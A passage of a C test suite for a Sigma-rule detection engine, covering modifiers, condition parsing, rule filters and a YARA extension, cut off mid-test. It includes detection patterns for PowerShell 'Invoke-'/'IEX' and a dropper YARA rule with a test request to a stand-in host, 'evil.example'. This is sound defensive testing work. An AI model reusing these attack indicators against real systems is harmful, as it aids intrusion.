    /* more pySigma vectors: 'Invoke-' and 'IEX' */
    rs = LOAD(
        SEL("        F|base64offset|contains:\n            - 'Invoke-'\n            - 'IEX'\n"));
    assert_true(has_str_pred(rs, "SW52b2tlL", 9));
    assert_true(has_str_pred(rs, "ludm9rZS", 8));
    assert_true(has_str_pred(rs, "JbnZva2Ut", 9));
    assert_true(has_str_pred(rs, "SUVY", 4));
    assert_true(has_str_pred(rs, "lFW", 3));
    assert_true(has_str_pred(rs, "JRV", 3));
    hm_ruleset_free(rs);
}

static void test_mod13_wide_utf16le(void **state) {
    (void)state;
    hm_ruleset *rs =
        LOAD(HDR "    a:\n        A|wide|contains: 'ab'\n    b:\n        B|utf16le: 'cd'\n"
                 "    condition: a or b\n");
    tev t;
    tev_init(&t, "");
    tev_setn(&t, "A", "xa\0b\0y", 6);
    TYES(rs, &t);
    tev_init(&t, "");
    tev_setn(&t, "A", "xab", 3);
    TNO(rs, &t);
    tev_init(&t, "");
    tev_setn(&t, "B", "c\0d\0", 4);
    TYES(rs, &t);
    tev_init(&t, "");
    tev_setn(&t, "B", "\0c\0d", 4);
    TNO(rs, &t);
    hm_ruleset_free(rs);
    /* non-ASCII: U+00E9 -> E9 00 */
    rs = LOAD(SEL("        A|wide: 'caf\xc3\xa9'\n"));
    tev_init(&t, "");
    tev_setn(&t, "A", "c\0a\0f\0\xe9\0", 8);
    TYES(rs, &t);
    tev_init(&t, "");
    tev_setn(&t, "A", "c\0a\0f\0\xc3\0\xa9\0", 10);
    TNO(rs, &t);
    hm_ruleset_free(rs);
    /* wide|base64offset|contains (corpus chain): base64(utf16le("ping")) at every offset */
    rs = LOAD(SEL("        A|wide|base64offset|contains: 'ping'\n"));
    YES(rs, "", "A", "cABpAG4AZwA=");     /* "ping" */
    YES(rs, "", "A", "eABwAGkAbgBnAA=="); /* "xping" */
    YES(rs, "", "A", "eAB4AHAAaQBuAGcA"); /* "xxping" */
    NO(rs, "", "A", "cABvAG4AZwA=");      /* "pong" */
    hm_ruleset_free(rs);
}

static void test_mod14_utf16be(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        A|utf16be|contains: 'ab'\n"));
    tev t;
    tev_init(&t, "");
    tev_setn(&t, "A", "x\0a\0b", 5);
    TYES(rs, &t);
    tev_init(&t, "");
    tev_setn(&t, "A", "a\0b\0", 4);
    TNO(rs, &t);
    hm_ruleset_free(rs);
}

static void test_mod15_utf16_bom(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        A|utf16: 'ab'\n"));
    tev t;
    tev_init(&t, "");
    tev_setn(&t, "A",
             "\xff\xfe"
             "a\0b\0",
             6);
    TYES(rs, &t);
    tev_init(&t, "");
    tev_setn(&t, "A", "a\0b\0", 4);
    TNO(rs, &t);
    hm_ruleset_free(rs);
    /* utf16|base64offset: base64(FF FE 61 00 62 00) = "//5hAGIA" */
    rs = LOAD(SEL("        A|utf16|base64offset|contains: 'ab'\n"));
    YES(rs, "", "A", "//5hAGIA");
    NO(rs, "", "A", "YQBiAA==");
    hm_ruleset_free(rs);
}

static void test_mod16_numeric_comparisons(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(HDR "    gt:\n        A|gt: 10\n    gte:\n        B|gte: 10\n"
                              "    lt:\n        C|lt: -1.5\n    lte:\n        D|lte: 0\n"
                              "    condition: 1 of them\n");
    YES(rs, "", "A", "11");
    NO(rs, "", "A", "10");
    YES(rs, "", "B", "10");
    NO(rs, "", "B", "9.99");
    YES(rs, "", "C", "-2");
    NO(rs, "", "C", "-1.5");
    YES(rs, "", "D", "0");
    YES(rs, "", "D", "-0.0");
    NO(rs, "", "D", "0.001");
    NO(rs, "", "A", "eleven"); /* non-numeric event value: no match */
    NO(rs, "", "A", "");
    NO(rs, "", "A", "12abc");
    NO(rs, "");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        bytes_out|gt: 1000000\n"));
    YES(rs, "", "bytes_out", "1000001");
    NO(rs, "", "bytes_out", "999999");
    hm_ruleset_free(rs);
    EXPECT_ERROR(SEL("        A|gt: 'ten'\n"), "bad-value");
    EXPECT_ERROR(SEL("        A|gt|contains: 10\n"), "bad-modifier-chain");
}

static void test_mod17_time_parts(void **state) {
    (void)state;
    /* 2024-03-11T13:05:09Z = 08:05:09 CDT, Monday, ISO week 11 */
    const char *yaml = HDR "    h:\n        LoginTime|hour: 8\n"
                           "    condition: h\n";
    hm_rules_opts tz = {.tz = &g_chicago};
    hm_ruleset *rs = LOAD_OPTS(yaml, &tz);
    YES(rs, "", "LoginTime", "2024-03-11T13:05:09Z");
    YES(rs, "", "LoginTime", "2024-03-11T08:05:09"); /* no zone: district local time */
    NO(rs, "", "LoginTime", "2024-03-11T08:05:09Z");
    NO(rs, "", "LoginTime", "not a time");
    NO(rs, "");
    hm_ruleset_free(rs);
    rs = LOAD(yaml); /* no zone configured: UTC */
    YES(rs, "", "LoginTime", "2024-03-11T08:05:09Z");
    NO(rs, "", "LoginTime", "2024-03-11T13:05:09Z");
    hm_ruleset_free(rs);
    /* every part on the event time (time field), district zone */
    rs =
        LOAD_OPTS(HDR "    t:\n        time|minute: 5\n        time|hour: 8\n        time|day: 11\n"
                      "        time|month: 3\n        time|year: 2024\n        time|week: 11\n"
                      "        time|weekday: 1\n    condition: t\n",
                  &tz);
    tev t;
    tev_init(&t, "");
    t.ev.ts_ns = hm_civil_to_epoch(2024, 3, 11, 13, 5, 9) * 1000000000LL;
    TYES(rs, &t);
    t.ev.ts_ns += 3600LL * 1000000000LL;
    TNO(rs, &t);
    hm_ruleset_free(rs);
    /* after hours: comparisons combine with time parts */
    rs = LOAD_OPTS(
        HDR "    late:\n        time|hour|gte: 18\n    early:\n        time|hour|lt: 6\n"
            "    door:\n        door_class: exterior\n    condition: door and (late or early)\n",
        &tz);
    tev_init(&t, "");
    tev_set(&t, "door_class", "exterior");
    t.ev.ts_ns = hm_civil_to_epoch(2024, 1, 16, 3, 30, 0) * 1000000000LL; /* 21:30 CST */
    TYES(rs, &t);
    t.ev.ts_ns = hm_civil_to_epoch(2024, 1, 16, 15, 30, 0) * 1000000000LL; /* 09:30 CST */
    TNO(rs, &t);
    t.ev.ts_ns = hm_civil_to_epoch(2024, 1, 16, 10, 30, 0) * 1000000000LL; /* 04:30 CST */
    TYES(rs, &t);
    hm_ruleset_free(rs);
    /* ISO week at a year edge: 2021-01-03 is in week 53 of 2020 */
    rs = LOAD(SEL("        time|week: 53\n"));
    tev_init(&t, "");
    t.ev.ts_ns = hm_civil_to_epoch(2021, 1, 3, 12, 0, 0) * 1000000000LL;
    TYES(rs, &t);
    t.ev.ts_ns = hm_civil_to_epoch(2021, 1, 4, 12, 0, 0) * 1000000000LL;
    TNO(rs, &t);
    hm_ruleset_free(rs);
    EXPECT_ERROR(SEL("        time|hour: 'eight'\n"), "bad-value");
}

static void test_mod18_cidr(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        src_ip|cidr: 10.0.0.0/8\n"));
    YES(rs, "", "src_ip", "10.200.3.4");
    NO(rs, "", "src_ip", "11.0.0.1");
    NO(rs, "", "src_ip", "10.0.0");
    NO(rs, "", "src_ip", "fe80::1");
    NO(rs, "");
    hm_ruleset_free(rs);
    /* list ORed, odd prefix, IPv6, host address */
    rs = LOAD(SEL(
        "        dst_ip|cidr:\n            - 172.16.0.0/12\n            - 192.168.1.128/25\n"
        "            - 'fd00::/8'\n            - '2001:db8:0:1::/64'\n            - 8.8.8.8\n"));
    YES(rs, "", "dst_ip", "172.31.255.255");
    NO(rs, "", "dst_ip", "172.32.0.0");
    YES(rs, "", "dst_ip", "192.168.1.200");
    NO(rs, "", "dst_ip", "192.168.1.100");
    YES(rs, "", "dst_ip", "fd12:3456::1");
    NO(rs, "", "dst_ip", "fe80::1");
    YES(rs, "", "dst_ip", "2001:DB8:0:1:ffff::1");
    NO(rs, "", "dst_ip", "2001:db8:0:2::1");
    YES(rs, "", "dst_ip", "8.8.8.8");
    NO(rs, "", "dst_ip", "8.8.8.9");
    YES(rs, "", "dst_ip", "::ffff:172.16.0.1"); /* v4-mapped compares as IPv4 */
    hm_ruleset_free(rs);
    /* not in a private range: cidr with not */
    rs = LOAD(HDR
              "    sel:\n        F: x\n    priv:\n        src_ip|cidr:\n            - 10.0.0.0/8\n"
              "            - 192.168.0.0/16\n    condition: sel and not priv\n");
    YES(rs, "", "F", "x", "src_ip", "8.8.4.4");
    NO(rs, "", "F", "x", "src_ip", "192.168.4.4");
    hm_ruleset_free(rs);
    EXPECT_ERROR(SEL("        src_ip|cidr: 10.0.0.0/33\n"), "bad-cidr");
    EXPECT_ERROR(SEL("        src_ip|cidr: 'not-an-ip'\n"), "bad-cidr");
    EXPECT_ERROR(SEL("        src_ip|contains|cidr: 10.0.0.0/8\n"), "bad-modifier-chain");
}

static void test_mod19_expand(void **state) {
    (void)state;
    char ph[512];
    tmp_file(
        ph, sizeof ph, "placeholders.yml",
        "placeholders:\n  Administrators: [admin, root]\n  Servers:\n    - 'srv-*'\n    - dc01\n");
    hm_rules_opts o = {.placeholders_file = ph};
    hm_ruleset *rs = LOAD_OPTS(
        SEL("        user|expand: '%Administrators%'\n        host|expand: '%Servers%'\n"), &o);
    YES(rs, "", "user", "root", "host", "srv-mail");
    YES(rs, "", "user", "ADMIN", "host", "dc01");
    NO(rs, "", "user", "bob", "host", "dc01");
    NO(rs, "", "user", "root", "host", "ws-12");
    hm_ruleset_free(rs);
    /* placeholders inside a value, with contains */
    rs = LOAD_OPTS(SEL("        F|contains|expand: 'user=%Administrators% '\n"), &o);
    YES(rs, "", "F", "x user=admin y");
    NO(rs, "", "F", "x user=bob y");
    hm_ruleset_free(rs);
    /* \% is a literal percent; without expand %x% is literal */
    rs = LOAD_OPTS(
        SEL("        F|expand: '100\\% %Administrators%'\n        G: '%Administrators%'\n"), &o);
    YES(rs, "", "F", "100% admin", "G", "%Administrators%");
    NO(rs, "", "F", "100% admin", "G", "admin");
    hm_ruleset_free(rs);
    /* unresolved placeholders reject the rule */
    EXPECT_ERROR_OPTS(SEL("        user|expand: '%DomainControllers%'\n"), &o,
                      "unresolved-placeholder");
    EXPECT_ERROR(SEL("        user|expand: '%Administrators%'\n"), "unresolved-placeholder");
}

static void test_mod20_fieldref(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        user|fieldref: target_user\n"));
    YES(rs, "", "user", "bob", "target_user", "BOB");
    NO(rs, "", "user", "bob", "target_user", "alice");
    NO(rs, "", "user", "bob"); /* referenced field absent */
    NO(rs, "", "target_user", "bob");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        CommandLine|fieldref|contains: Image\n"));
    YES(rs, "", "CommandLine", "\"c:\\x\\tool.exe\" -a", "Image", "C:\\x\\tool.exe");
    NO(rs, "", "CommandLine", "other -a", "Image", "C:\\x\\tool.exe");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        SubjectUserName|fieldref|neq: TargetUserName\n        EventID: 4724\n"));
    YES(rs, "", "EventID", "4724", "SubjectUserName", "admin", "TargetUserName", "bob");
    NO(rs, "", "EventID", "4724", "SubjectUserName", "bob", "TargetUserName", "bob");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        A|fieldref|cased: B\n"));
    YES(rs, "", "A", "Xy", "B", "Xy");
    NO(rs, "", "A", "Xy", "B", "xy");
    hm_ruleset_free(rs);
    EXPECT_ERROR(SEL("        A|fieldref: 'B*'\n"), "bad-value");
}

static void test_mod21_chain_validity(void **state) {
    (void)state;
    EXPECT_ERROR(SEL("        F|contains|re: 'x'\n"), "bad-modifier-chain");
    EXPECT_ERROR(SEL("        F|contains|cidr: 10.0.0.0/8\n"), "bad-modifier-chain");
    EXPECT_ERROR(SEL("        F|contains|startswith: x\n"), "bad-modifier-chain");
    EXPECT_ERROR(SEL("        F|re|base64: x\n"), "bad-modifier-chain");
    EXPECT_ERROR(SEL("        F|base64offset|contains: 'a*b'\n"), "bad-value");
    EXPECT_ERROR(SEL("        F|lt: abc\n"), "bad-value");
    EXPECT_ERROR(SEL("        F|contains: null\n"), "bad-value");
    EXPECT_ERROR(SEL("        F|re:\n            re: x\n"), "bad-value");
    /* the corpus chains load */
    hm_ruleset *rs = LOAD(HDR "    a:\n        A|contains|all: [x, y]\n"
                              "    b:\n        B|contains|windash: ' -x'\n"
                              "    c:\n        C|endswith|windash: ' -x'\n"
                              "    d:\n        D|base64offset|contains: x\n"
                              "    e:\n        E|wide|base64offset|contains: x\n"
                              "    f:\n        F|base64|contains: x\n"
                              "    g:\n        G|re|i: x\n"
                              "    condition: 1 of them\n");
    YES(rs, "", "G", "X");
    NO(rs, "", "G", "y");
    hm_ruleset_free(rs);
}

/* ===================================================================================== */
/* S-COND                                                                                 */

static void test_cond01_condition_list_ored(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(
        HDR
        "    a:\n        F: a\n    b:\n        G: b\n    condition:\n        - a\n        - b\n");
    YES(rs, "", "F", "a");
    YES(rs, "", "G", "b");
    NO(rs, "", "F", "b", "G", "a");
    hm_ruleset_free(rs);
    EXPECT_ERROR(HDR "    a:\n        F: a\n    condition: []\n", "bad-condition");
    EXPECT_ERROR(HDR "    a:\n        F: a\n    condition: {a: b}\n", "bad-condition");
}

static void test_cond02_operators_precedence(void **state) {
    (void)state;
    const char *sels = "    a:\n        A: 1\n    b:\n        B: 1\n    c:\n        C: 1\n";
    char y[1024];
    /* a or b and c == a or (b and c) */
    snprintf(y, sizeof y, HDR "%s    condition: a or b and c\n", sels);
    hm_ruleset *rs = LOAD(y);
    YES(rs, "", "A", "1");
    NO(rs, "", "B", "1");
    YES(rs, "", "B", "1", "C", "1");
    NO(rs, "", "C", "1");
    hm_ruleset_free(rs);
    /* not binds tighter than and: not a and b == (not a) and b */
    snprintf(y, sizeof y, HDR "%s    condition: not a and b\n", sels);
    rs = LOAD(y);
    YES(rs, "", "B", "1");
    NO(rs, "", "A", "1", "B", "1");
    NO(rs, "");
    hm_ruleset_free(rs);
    /* parentheses override */
    snprintf(y, sizeof y, HDR "%s    condition: (a or b) and c\n", sels);
    rs = LOAD(y);
    YES(rs, "", "A", "1", "C", "1");
    NO(rs, "", "A", "1");
    hm_ruleset_free(rs);
    snprintf(y, sizeof y, HDR "%s    condition: not (a or b)\n", sels);
    rs = LOAD(y);
    YES(rs, "", "C", "1");
    NO(rs, "", "B", "1");
    hm_ruleset_free(rs);
    snprintf(y, sizeof y, HDR "%s    condition: not not a\n", sels);
    rs = LOAD(y);
    YES(rs, "", "A", "1");
    NO(rs, "", "B", "1");
    hm_ruleset_free(rs);
    snprintf(y, sizeof y, HDR "%s    condition: a and\n", sels);
    EXPECT_ERROR(y, "bad-condition");
    snprintf(y, sizeof y, HDR "%s    condition: (a or b\n", sels);
    EXPECT_ERROR(y, "bad-condition");
    snprintf(y, sizeof y, HDR "%s    condition: a b\n", sels);
    EXPECT_ERROR(y, "bad-condition");
    snprintf(y, sizeof y, HDR "%s    condition: a AND b\n", sels); /* keywords are lowercase */
    EXPECT_ERROR(y, "bad-condition");
}

static void test_cond03_identifier_missing(void **state) {
    (void)state;
    EXPECT_ERROR(HDR "    sel:\n        F: a\n    condition: sel and filter\n", "bad-condition");
    EXPECT_ERROR(HDR "    sel:\n        F: a\n    condition: sel*\n", "bad-condition");
    hm_ruleset *rs = LOAD(HDR "    sel:\n        F: a\n    condition: sel\n");
    YES(rs, "", "F", "a");
    NO(rs, "", "F", "b");
    hm_ruleset_free(rs);
}

static void test_cond04_x_of_pattern(void **state) {
    (void)state;
    const char *sels =
        "    sel_a:\n        A: 1\n    sel_b:\n        B: 1\n    other:\n        O: 1\n"
        "    filter_x:\n        X: 1\n    filter_y:\n        Y: 1\n";
    char y[1024];
    snprintf(y, sizeof y, HDR "%s    condition: 1 of sel_* and not 1 of filter_*\n", sels);
    hm_ruleset *rs = LOAD(y);
    YES(rs, "", "A", "1");
    YES(rs, "", "B", "1", "O", "1");
    NO(rs, "", "A", "1", "Y", "1");
    NO(rs, "", "O", "1");
    hm_ruleset_free(rs);
    snprintf(y, sizeof y, HDR "%s    condition: all of sel_* and not all of filter_*\n", sels);
    rs = LOAD(y);
    YES(rs, "", "A", "1", "B", "1", "X", "1");
    NO(rs, "", "A", "1", "B", "1", "X", "1", "Y", "1");
    NO(rs, "", "A", "1");
    hm_ruleset_free(rs);
    /* '*' anywhere in the pattern, matched against the whole name */
    snprintf(y, sizeof y, HDR "%s    condition: 1 of *_a or all of f*_*\n", sels);
    rs = LOAD(y);
    YES(rs, "", "A", "1");
    YES(rs, "", "X", "1", "Y", "1");
    NO(rs, "", "X", "1");
    NO(rs, "", "O", "1");
    hm_ruleset_free(rs);
}

static void test_cond05_any_of(void **state) {
    (void)state;
    hm_ruleset *rs =
        LOAD(HDR "    s1:\n        A: 1\n    s2:\n        B: 1\n    condition: any of s*\n");
    YES(rs, "", "B", "1");
    NO(rs, "", "C", "1");
    hm_ruleset_free(rs);
}

static void test_cond06_them_excludes_underscore(void **state) {
    (void)state;
    const char *sels = "    a:\n        A: 1\n    b:\n        B: 1\n    _helper:\n        H: 1\n";
    char y[1024];
    snprintf(y, sizeof y, HDR "%s    condition: 1 of them\n", sels);
    hm_ruleset *rs = LOAD(y);
    YES(rs, "", "A", "1");
    YES(rs, "", "B", "1");
    NO(rs, "", "H", "1");
    hm_ruleset_free(rs);
    snprintf(y, sizeof y, HDR "%s    condition: all of them\n", sels);
    rs = LOAD(y);
    YES(rs, "", "A", "1", "B", "1");
    NO(rs, "", "A", "1", "H", "1");
    hm_ruleset_free(rs);
    /* _-prefixed identifiers are still usable by name */
    snprintf(y, sizeof y, HDR "%s    condition: all of them and not _helper\n", sels);
    rs = LOAD(y);
    YES(rs, "", "A", "1", "B", "1");
    NO(rs, "", "A", "1", "B", "1", "H", "1");
    hm_ruleset_free(rs);
}

static void test_cond07_pattern_matching_nothing(void **state) {
    (void)state;
    /* 1 of <nothing> = false, all of <nothing> = true, both with a warning */
    hm_ruleset *rs = LOAD_WARN(
        HDR "    sel:\n        A: 1\n    condition: sel and not 1 of filter*\n", "empty-pattern");
    YES(rs, "", "A", "1");
    NO(rs, "", "A", "2");
    hm_ruleset_free(rs);
    rs = LOAD_WARN(HDR "    sel:\n        A: 1\n    condition: sel or 1 of filter*\n",
                   "empty-pattern");
    YES(rs, "", "A", "1");
    NO(rs, "", "A", "2");
    hm_ruleset_free(rs);
    rs = LOAD_WARN(HDR "    sel:\n        A: 1\n    condition: sel and all of x*\n",
                   "empty-pattern");
    YES(rs, "", "A", "1");
    NO(rs, "", "A", "2");
    hm_ruleset_free(rs);
    rs = LOAD_WARN(HDR "    sel:\n        A: 1\n    condition: sel and 1 of x*\n", "empty-pattern");
    NO(rs, "", "A", "1");
    hm_ruleset_free(rs);
}

static void test_cond08_nested_parentheses(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(
        HDR
        "    a:\n        A: 1\n    b:\n        B: 1\n    c:\n        C: 1\n    d:\n        D: 1\n"
        "    condition: \"  ( a and (b or (c and ( not d ) ) ) )\\n or ((d and a))\"\n");
    YES(rs, "", "A", "1", "B", "1");
    YES(rs, "", "A", "1", "C", "1");
    YES(rs, "", "A", "1", "C", "1", "D", "1"); /* via (d and a) */
    NO(rs, "", "C", "1", "D", "1");
    YES(rs, "", "A", "1", "D", "1");
    NO(rs, "", "B", "1", "C", "1");
    hm_ruleset_free(rs);
}

static void test_cond09_x_of_exact_name(void **state) {
    (void)state;
    hm_ruleset *rs =
        LOAD(HDR "    sel:\n        A: 1\n    selection:\n        B: 1\n    condition: 1 of sel\n");
    YES(rs, "", "A", "1");
    NO(rs, "", "B", "1");
    hm_ruleset_free(rs);
}

/* ===================================================================================== */
/* S-FLT                                                                                  */

#define TWO_RULES                                                                                  \
    "title: A\nid: rule-a\nname: rule_a\nlogsource: {product: test, category: proc}\n"             \
    "detection: {selection: {F: x}, condition: 1 of them}\n"                                       \
    "---\n"                                                                                        \
    "title: B\nid: rule-b\nlogsource: {product: test, category: net}\n"                            \
    "detection: {selection: {F: x}, condition: selection}\n"                                       \
    "---\n"

static uint64_t flt_hits(const hm_ruleset *rs, const char *cat, const char *host, const char *user,
                         const char *file, int line) {
    tev t;
    tev_init(&t, "");
    tev_set(&t, "category", cat);
    tev_set(&t, "F", "x");
    if (host) tev_set(&t, "host", host);
    if (user) tev_set(&t, "user", user);
    return hits_at(rs, &t, file, line);
}
#define FLT(rs, cat, host, user) flt_hits((rs), (cat), (host), (user), __FILE__, __LINE__)

static void test_flt01_filter_document(void **state) {
    (void)state;
    EXPECT_ERROR(TWO_RULES "logsource: {product: test}\nfilter: {rules: any, selection: {host: h}, "
                           "condition: selection}\n",
                 "missing-title");
    EXPECT_ERROR(TWO_RULES "title: F\nlogsource: {product: test}\nfilter: [a]\n", "bad-filter");
    EXPECT_ERROR(TWO_RULES "title: F\nlogsource: {product: test}\nfilter: {rules: any, "
                           "selection: {host: h}}\n",
                 "missing-condition");
    EXPECT_ERROR(TWO_RULES "title: F\nlogsource: {product: test}\nfilter: {rules: any, "
                           "selection: {host: h}, condition: nosuch}\n",
                 "bad-condition");
    hm_ruleset *rs =
        LOAD(TWO_RULES "title: F\nid: f-1\ndescription: d\ndate: 2024-01-01\n"
                       "logsource: {product: test}\n"
                       "filter: {rules: [rule-a], selection: {host: h1}, condition: selection}\n");
    assert_int_equal(FLT(rs, "proc", "h1", NULL), 0);
    assert_int_equal(FLT(rs, "proc", "h2", NULL), 1);
    hm_ruleset_info info;
    hm_ruleset_get_info(rs, &info);
    assert_int_equal(info.filters, 1);
    hm_ruleset_free(rs);
}

static void test_flt02_targets_and_logsource(void **state) {
    (void)state;
    /* by id */
    hm_ruleset *rs =
        LOAD(TWO_RULES "title: F\nlogsource: {product: test}\n"
                       "filter: {rules: [rule-b], selection: {host: h1}, condition: selection}\n");
    assert_int_equal(FLT(rs, "net", "h1", NULL), 0);
    assert_int_equal(FLT(rs, "net", "h2", NULL), 2);
    assert_int_equal(FLT(rs, "proc", "h1", NULL), 1); /* rule-a not named */
    hm_ruleset_free(rs);
    /* by name, single string */
    rs = LOAD(TWO_RULES "title: F\nlogsource: {product: test}\n"
                        "filter: {rules: rule_a, selection: {host: h1}, condition: selection}\n");
    assert_int_equal(FLT(rs, "proc", "h1", NULL), 0);
    assert_int_equal(FLT(rs, "net", "h1", NULL), 2);
    hm_ruleset_free(rs);
    /* rules: any, and an empty list: every rule with a compatible logsource */
    rs = LOAD(TWO_RULES "title: F\nlogsource: {product: test}\n"
                        "filter: {rules: any, selection: {host: h1}, condition: selection}\n");
    assert_int_equal(FLT(rs, "proc", "h1", NULL), 0);
    assert_int_equal(FLT(rs, "net", "h1", NULL), 0);
    assert_int_equal(FLT(rs, "net", "h2", NULL), 2);
    hm_ruleset_free(rs);
    rs = LOAD(TWO_RULES "title: F\nlogsource: {product: test}\n"
                        "filter: {rules: [], selection: {host: h1}, condition: selection}\n");
    assert_int_equal(FLT(rs, "proc", "h1", NULL), 0);
    assert_int_equal(FLT(rs, "net", "h1", NULL), 0);
    hm_ruleset_free(rs);
    /* logsource compatibility: a category:net filter does not touch the proc rule */
    rs = LOAD(TWO_RULES "title: F\nlogsource: {product: test, category: net}\n"
                        "filter: {rules: any, selection: {host: h1}, condition: selection}\n");
    assert_int_equal(FLT(rs, "proc", "h1", NULL), 1);
    assert_int_equal(FLT(rs, "net", "h1", NULL), 0);
    hm_ruleset_free(rs);
    /* a filter for another product applies to nothing (warning) */
    rs = LOAD_WARN(TWO_RULES "title: F\nlogsource: {product: windows}\n"
                             "filter: {rules: any, selection: {host: h1}, condition: selection}\n",
                   "filter-unused");
    assert_int_equal(FLT(rs, "proc", "h1", NULL), 1);
    hm_ruleset_free(rs);
}

static void test_flt03_semantics_and_not_warning(void **state) {
    (void)state;
    /* rule AND NOT filter: the filter condition names what to exclude */
    hm_ruleset *rs = LOAD_NOWARN(TWO_RULES "title: F\nlogsource: {product: test}\n"
                                           "filter: {rules: [rule-a], selection: {host: h1}, "
                                           "condition: selection}\n",
                                 "filter-negated");
    assert_int_equal(FLT(rs, "proc", "h1", NULL), 0);
    assert_int_equal(FLT(rs, "proc", NULL, NULL), 1); /* filter field absent: not excluded */
    hm_ruleset_free(rs);
    /* a leading not (pySigma style) is read literally, with a warning */
    rs = LOAD_WARN(TWO_RULES "title: F\nlogsource: {product: test}\n"
                             "filter: {rules: [rule-a], selection: {host: h1}, "
                             "condition: not selection}\n",
                   "filter-negated");
    assert_int_equal(FLT(rs, "proc", "h1", NULL), 1);
    assert_int_equal(FLT(rs, "proc", "h2", NULL), 0);
    hm_ruleset_free(rs);
}

static void test_flt04_filter_identifiers_namespaced(void **state) {
    (void)state;
    /* the rule says `1 of them` / `1 of sel*`: the filter's identifiers (even one named
     * like the rule's) must not join those patterns */
    hm_ruleset *rs =
        LOAD("title: A\nid: rule-a\nlogsource: {product: test}\n"
             "detection: {selection: {F: x}, sel_other: {G: y}, condition: 1 of sel*}\n"
             "---\n"
             "title: B\nid: rule-b\nlogsource: {product: test}\n"
             "detection: {selection: {F: x}, condition: 1 of them}\n"
             "---\n"
             "title: F\nlogsource: {product: test}\n"
             "filter: {rules: any, selection: {host: h1}, sel_2: {user: u1}, "
             "condition: selection and sel_2}\n");
    tev t;
    tev_init(&t, "");
    tev_set(&t, "host", "h1");
    tev_set(&t, "user", "u1");
    assert_int_equal(HITS(rs, &t), 0); /* filter identifiers did not become rule selections */
    tev_set(&t, "F", "x");
    assert_int_equal(HITS(rs, &t), 0); /* excluded */
    tev_init(&t, "");
    tev_set(&t, "F", "x");
    tev_set(&t, "host", "h1");
    assert_int_equal(HITS(rs, &t), 3);
    /* evidence names of filter identifiers are prefixed */
    const hm_rule_meta *m = hm_ruleset_rule(rs, 0);
    assert_int_equal(m->n_selections, 4);
    assert_string_equal(m->selection_names[0], "selection");
    assert_string_equal(m->selection_names[1], "sel_other");
    assert_non_null(strstr(m->selection_names[2], "selection"));
    assert_true(strcmp(m->selection_names[2], "selection") != 0);
    hm_ruleset_free(rs);
}

static void test_flt05_several_filters(void **state) {
    (void)state;
    hm_ruleset *rs =
        LOAD(TWO_RULES "title: F1\nlogsource: {product: test}\n"
                       "filter: {rules: [rule-a], selection: {host: h1}, condition: selection}\n"
                       "---\n"
                       "title: F2\nlogsource: {product: test}\n"
                       "filter: {rules: [rule-a], selection: {user: svc}, condition: selection}\n");
    assert_int_equal(FLT(rs, "proc", "h1", NULL), 0);
    assert_int_equal(FLT(rs, "proc", "h2", "svc"), 0);
    assert_int_equal(FLT(rs, "proc", "h2", "bob"), 1);
    hm_ruleset_info info;
    hm_ruleset_get_info(rs, &info);
    assert_int_equal(info.filters, 2);
    hm_ruleset_free(rs);
}

/* ===================================================================================== */
/* evidence, YARA, matcher contract                                                       */

static void test_selection_evidence_bitmask(void **state) {
    (void)state;
    hm_ruleset *rs =
        LOAD(HDR "    sel_a:\n        A: 1\n    sel_b:\n        B: 1\n    filter:\n        C: 1\n"
                 "    condition: 1 of sel_* and not filter\n");
    tev t;
    tev_init(&t, "");
    tev_set(&t, "A", "1");
    tev_set(&t, "B", "2");
    hm_match m[MAXM];
    assert_int_equal(detect_both_at(rs, &t, m, __FILE__, __LINE__), 1);
    assert_int_equal(m[0].rule, 0);
    assert_int_equal(m[0].selections, 1); /* sel_a only */
    tev_set(&t, "B", "1");
    tev_set(&t, "C", "0");
    assert_int_equal(detect_both_at(rs, &t, m, __FILE__, __LINE__), 1);
    assert_int_equal(m[0].selections, 3);
    tev_init(&t, "");
    tev_set(&t, "A", "1");
    tev_set(&t, "C", "1");
    assert_int_equal(detect_both_at(rs, &t, m, __FILE__, __LINE__), 0);
    hm_ruleset_free(rs);
}

static void test_detect_max_and_order(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD("title: A\nid: a\nlogsource: {product: test}\ndetection: {s: "
                          "{F|contains: x}, condition: s}\n"
                          "---\n"
                          "title: B\nid: b\nlogsource: {product: test}\ndetection: {s: "
                          "{F|contains: y}, condition: s}\n"
                          "---\n"
                          "title: C\nid: c\nlogsource: {product: test}\ndetection: {s: "
                          "{F|contains: z}, condition: s}\n");
    tev t;
    tev_init(&t, "");
    tev_set(&t, "F", "zyx");
    hm_match m[2];
    hm_detector *d = hm_detector_new(rs);
    assert_int_equal(hm_detect(d, &t.ev, m, 2), 3); /* counted beyond max */
    assert_int_equal(m[0].rule, 0);
    assert_int_equal(m[1].rule, 1);
    assert_int_equal(hm_detect_reference(rs, &t.ev, m, 2), 3);
    assert_int_equal(m[1].rule, 1);
    tev_init(&t, "");
    tev_set(&t, "F", "abc");
    assert_int_equal(hm_detect(d, &t.ev, m, 2), 0);
    hm_detector_free(d);
    hm_ruleset_free(rs);
}

static void test_yara_extension(void **state) {
    (void)state;
    char dir[400], p[600];
    new_dir(dir, sizeof dir);
    snprintf(p, sizeof p, "%s/test.yar", dir);
    write_file(p, "rule HM_Dropper {\n"
                  "  meta:\n    author = \"hallmonitor tests\"\n"
                  "  strings:\n"
                  "    $url = \"evil.example\" nocase\n"
                  "    $mz = { 4D 5A 90 00 }\n"
                  "    $re = /pay[0-9]{3}load/\n"
                  "  condition:\n"
                  "    ($url and $re) or $mz at 0\n"
                  "}\n"
                  "rule HM_Twice {\n"
                  "  strings:\n    $t = \"token\"\n"
                  "  condition:\n    #t >= 2 and filesize < 100\n"
                  "}\n");
    hm_rules_opts o = {.yara_dir = dir};
    hm_ruleset *rs = LOAD_OPTS(HDR "    y1:\n        Payload|yara: HM_Dropper\n"
                                   "    y2:\n        Body|yara: HM_Twice\n"
                                   "    condition: y1 or y2\n",
                               &o);
    YES(rs, "", "Payload", "GET http://EVIL.example/pay123load");
